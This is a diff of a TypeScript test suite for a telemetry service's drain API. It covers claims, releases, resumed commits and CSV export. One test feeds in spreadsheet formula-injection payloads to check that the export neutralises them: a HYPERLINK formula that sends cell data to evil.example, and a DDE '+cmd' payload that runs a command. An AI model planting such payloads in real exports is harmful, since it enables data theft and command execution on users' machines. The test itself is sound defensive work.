@@ -1,9 +1,9 @@
-import { DrainCommitResponseSchema, DrainSchema, ErrorBodySchema, IngestResponseSchema } from 'kpiggybank-client/wire';
+import { DrainCommitResponseSchema, DrainReleaseResponseSchema, DrainSchema, ErrorBodySchema, IngestResponseSchema, type Drain } from 'kpiggybank-client/wire';
 import request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MemoryStore } from '../src/store/memory.js';
-import { StoreUnavailableError } from '../src/store/store.js';
-import { pool, serveApp, startTestApp, type TestApp } from './support/app.js';
+import { StoreUnavailableError, type StoredBlob } from '../src/store/store.js';
+import { metric, pool, serveApp, startTestApp, type TestApp } from './support/app.js';
 import { FeedClient, until } from './support/feed-client.js';
 import { BACKENDS } from './support/stores.js';
 
@@ -16,10 +16,62 @@ async function post(url: string, blobs: object[]): Promise<string[]> {
   return IngestResponseSchema.parse(await res.json()).ids;
 }
 
-async function begin(url: string, query = ''): Promise<{ id: string; count: number }> {
+async function claim(url: string, query = ''): Promise<Drain> {
   const res = await fetch(`${url}/wsapi/drains${query}`, { method: 'POST', headers: auth });
   expect(res.status).toBe(201);
   return DrainSchema.parse(await res.json());
+}
+
+async function begin(url: string, query = ''): Promise<{ id: string; count: number }> {
+  return claim(url, query);
+}
+
+async function release(url: string, id: string): Promise<Response> {
+  return fetch(`${url}/wsapi/drains/${id}/release`, { method: 'POST', headers: auth });
+}
+
+/** Its store stops removing after `removals` calls, as a dying store would. */
+class FailingStore extends MemoryStore {
+  removals = Infinity;
+  override async remove(ids: readonly string[]): Promise<number> {
+    if (this.removals-- <= 0) throw new StoreUnavailableError('the store went away mid-commit');
+    return super.remove(ids);
+  }
+}
+
+/** A promise opened from outside. */
+class Gate {
+  resolve: () => void = () => {};
+  readonly promise = new Promise<void>((resolve) => (this.resolve = resolve));
+}
+
+/** Polls an async check every 20 ms until it holds. */
+async function eventually(check: () => Promise<boolean>, timeoutMs: number, what: string): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  while (!(await check())) {
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+}
+
+/** While `gate` is set, its removals (and, with `gatePages`, its range pages) wait for it; `waiting` counts those waiting. */
+class GatedStore extends MemoryStore {
+  gate: Gate | undefined;
+  gatePages = false;
+  waiting = 0;
+  private async pass(): Promise<void> {
+    if (!this.gate) return;
+    this.waiting++;
+    await this.gate.promise;
+  }
+  override async remove(ids: readonly string[]): Promise<number> {
+    await this.pass();
+    return super.remove(ids);
+  }
+  override async page(...args: Parameters<MemoryStore['page']>): Promise<StoredBlob[]> {
+    if (this.gatePages) await this.pass();
+    return super.page(...args);
+  }
 }
 
 async function read(url: string, id: string): Promise<{ _id: string; timestamp: number }[]> {
@@ -151,17 +203,9 @@ describe('drain leases, formats and access', () => {
     }
   });
 
-  it('resumes a commit cut short; until then no other drain takes its blobs', { timeout: 30_000 }, async () => {
-    /** Its store stops removing after `removals` calls, as a dying store would. */
-    class FailingStore extends MemoryStore {
-      removals = Infinity;
-      override async remove(ids: readonly string[]): Promise<number> {
-        if (this.removals-- <= 0) throw new StoreUnavailableError('the store went away mid-commit');
-        return super.remove(ids);
-      }
-    }
+  it('resumes a commit cut short at once in the process where it failed; until then no other drain takes its blobs', { timeout: 30_000 }, async () => {
     const store = new FailingStore();
-    const t = await serveApp(store, { tokens: { drain: TOKEN }, drainLeaseMs: 1000 });
+    const t = await serveApp(store, { tokens: { drain: TOKEN }, drainLeaseMs: 60_000 });
     try {
       await post(t.url, Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })));
       const drain = await begin(t.url);
@@ -169,17 +213,112 @@ describe('drain leases, formats and access', () => {
       store.removals = 1; // the first page (1,000 blobs) goes, then the store fails
       expect((await commit(t.url, drain.id)).status).toBe(503);
       expect(await count(t)).toBe(2000);
-      expect((await begin(t.url)).count).toBe(0); // the analyst has them: held by the drain being committed
-      const busy = await commit(t.url, drain.id);
-      expect(busy.status).toBe(409);
-      expect(ErrorBodySchema.parse(await busy.json()).reason).toMatch(/being committed/);
-      await new Promise((resolve) => setTimeout(resolve, 1100)); // the committer's lease runs out: it died
-      expect((await begin(t.url)).count).toBe(0); // still held: a commit is resumed, never undone
+      const other = await claim(t.url);
+      expect(other.count).toBe(0); // the analyst has them: held by the drain being committed
+      expect(other.held).toEqual([{ drain: drain.id, count: 2000, until: expect.any(Number), committing: true }]);
+      const released = await release(t.url, drain.id);
+      expect(released.status).toBe(409); // a commit is resumed, never undone
       store.removals = Infinity;
-      const resumed = await commit(t.url, drain.id);
+      const resumed = await commit(t.url, drain.id); // no wait for the lease: nothing runs it here any more
       expect(resumed.status).toBe(200);
       expect(DrainCommitResponseSchema.parse(await resumed.json()).removed).toBe(2000);
       expect(await count(t)).toBe(0);
+    } finally {
+      await t.close();
+    }
+  });
+
+  it('a commit cut short in another instance: 409 with Retry-After until its lease; past it, the next claim finishes the commit', { timeout: 30_000 }, async () => {
+    const store = new FailingStore();
+    const [a, b] = await Promise.all([0, 1].map(() => serveApp(store, { tokens: { drain: TOKEN }, drainLeaseMs: 1000 })));
+    try {
+      await post(a!.url, Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })));
+      const drain = await begin(a!.url);
+      store.removals = 1;
+      expect((await commit(a!.url, drain.id)).status).toBe(503);
+      store.removals = Infinity;
+      const busy = await commit(b!.url, drain.id); // a may still be committing, for all b knows
+      expect(busy.status).toBe(409);
+      expect(Number(busy.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
+      expect(ErrorBodySchema.parse(await busy.json()).reason).toMatch(/another service instance/);
+      await new Promise((resolve) => setTimeout(resolve, 1100)); // a's lease runs out: it died, for all b knows
+      const next = await claim(b!.url);
+      expect(next.count).toBe(0); // never released to a second drain
+      expect(next.held).toEqual([{ drain: drain.id, count: 2000, until: expect.any(Number), committing: true }]);
+      await eventually(async () => (await count(b!)) === 0, 10_000, 'the half-committed drain finished by the service');
+      const again = await commit(b!.url, drain.id);
+      expect(again.status).toBe(409);
+      expect(ErrorBodySchema.parse(await again.json()).reason).toMatch(/committed already/);
+    } finally {
+      await Promise.all([a!.close(), b!.close()]);
+    }
+  });
+
+  it('a second commit while one runs waits for it and gets its answer, instead of a 409', { timeout: 30_000 }, async () => {
+    const store = new GatedStore();
+    const t = await serveApp(store, { tokens: { drain: TOKEN } });
+    try {
+      await post(t.url, Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })));
+      const drain = await begin(t.url);
+      store.gate = new Gate();
+      const first = commit(t.url, drain.id);
+      await until(() => store.waiting > 0, 5000, 'the first commit removing');
+      const second = commit(t.url, drain.id);
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      store.gate.resolve();
+      for (const res of await Promise.all([first, second])) {
+        expect(res.status).toBe(200);
+        expect(DrainCommitResponseSchema.parse(await res.json()).removed).toBe(3000);
+      }
+      expect(await count(t)).toBe(0);
+    } finally {
+      await t.close();
+    }
+  });
+
+  it('release lets a claimed drain go at once: the next claim takes its blobs; it can no longer be read or committed (410)', async () => {
+    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN } });
+    try {
+      await post(t.url, Array.from({ length: 1500 }, (_, i) => ({ timestamp: i })));
+      const first = await begin(t.url);
+      const held = await claim(t.url);
+      expect(held.count).toBe(0);
+      expect(held.held).toEqual([{ drain: first.id, count: 1500, until: expect.any(Number), committing: false }]);
+      const res = await release(t.url, first.id);
+      expect(res.status).toBe(200);
+      expect(DrainReleaseResponseSchema.parse(await res.json())).toEqual({ ok: true, id: first.id, released: 1500 });
+      const next = await claim(t.url);
+      expect(next.count).toBe(1500);
+      expect(next.held).toEqual([]);
+      for (const gone of [await commit(t.url, first.id), await fetch(`${t.url}/wsapi/drains/${first.id}/blobs`, { headers: auth }), await release(t.url, first.id)]) {
+        expect(gone.status).toBe(410);
+        expect(ErrorBodySchema.parse(await gone.json())).toMatchObject({ error: 'drain_expired', reason: expect.stringContaining('released') });
+      }
+      expect((await release(t.url, 'no-such-drain')).status).toBe(404);
+      expect(await count(t)).toBe(1500);
+      expect(await metric(t.url, 'kpiggybank_drains_total{event="released"}')).toBe(1);
+    } finally {
+      await t.close();
+    }
+  });
+
+  it('releases a claim whose client left before the answer: its blobs are not held until the lease', { timeout: 30_000 }, async () => {
+    const store = new GatedStore();
+    const t = await serveApp(store, { tokens: { drain: TOKEN } });
+    try {
+      await post(t.url, Array.from({ length: 1500 }, (_, i) => ({ timestamp: i })));
+      store.gate = new Gate();
+      store.gatePages = true;
+      const controller = new AbortController();
+      const left = fetch(`${t.url}/wsapi/drains`, { method: 'POST', headers: auth, signal: controller.signal }).catch(() => 'aborted');
+      await until(() => store.waiting > 0, 5000, 'the claim under way');
+      controller.abort();
+      expect(await left).toBe('aborted');
+      await new Promise((resolve) => setTimeout(resolve, 100)); // the server sees the connection closed
+      store.gatePages = false;
+      store.gate.resolve();
+      await eventually(async () => (await metric(t.url, 'kpiggybank_drains_total{event="released"}')) === 1, 5000, 'the abandoned claim released');
+      expect((await begin(t.url)).count).toBe(1500);
     } finally {
       await t.close();
     }
@@ -196,6 +335,43 @@ describe('drain leases, formats and access', () => {
       const res = await fetch(`${t.url}/wsapi/drains/${drain.id}/blobs?format=csv`, { headers: auth });
       expect(res.headers.get('content-type')).toMatch(/text\/csv/);
       expect(await res.text()).toBe('_id,timestamp,lang,user_agent,note\r\na,1,en,,\r\nb,2,,"{""os"":""Linux""}","say ""hi"", then go"\r\n');
+    } finally {
+      await t.close();
+    }
+  });
+
+  it('neutralises CSV cells and headers that a spreadsheet would run as formulas; JSON numbers stay numbers; formulas=raw opts out', async () => {
+    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN } });
+    try {
+      await post(t.url, [
+        { _id: 'a', timestamp: 1, link: '=HYPERLINK("http://evil.example/?x="&A1,"click")', cmd: "+cmd|'/C calc'!A0" },
+        { _id: 'b', timestamp: 2, sum: '@SUM(1+1)', dash: '-2+3', tab: '\tx', cr: '\r=1', delta: -5, '=IMPORTXML(A1,"//a")': 'safe' },
+      ]);
+      const drain = await begin(t.url);
+      const csv = async (query: string) => {
+        const res = await fetch(`${t.url}/wsapi/drains/${drain.id}/blobs?${query}`, { headers: auth });
+        expect(res.status).toBe(200);
+        return res.text();
+      };
+      expect(await csv('format=csv')).toBe(
+        [
+          `_id,timestamp,link,cmd,sum,dash,tab,cr,delta,"'=IMPORTXML(A1,""//a"")"`,
+          `a,1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'+cmd|'/C calc'!A0,,,,,,`,
+          `b,2,,,'@SUM(1+1),'-2+3,'\tx,"'\r=1",-5,safe`,
+          '',
+        ].join('\r\n'),
+      );
+      expect(await csv('format=csv&formulas=raw')).toBe(
+        [
+          `_id,timestamp,link,cmd,sum,dash,tab,cr,delta,"=IMPORTXML(A1,""//a"")"`,
+          `a,1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+cmd|'/C calc'!A0,,,,,,`,
+          `b,2,,,@SUM(1+1),-2+3,\tx,"\r=1",-5,safe`,
+          '',
+        ].join('\r\n'),
+      );
+      const bad = await fetch(`${t.url}/wsapi/drains/${drain.id}/blobs?format=csv&formulas=run`, { headers: auth });
+      expect(bad.status).toBe(400);
+      expect(ErrorBodySchema.parse(await bad.json())).toMatchObject({ error: 'invalid_query', reason: expect.stringContaining('formulas') });
     } finally {
       await t.close();
     }
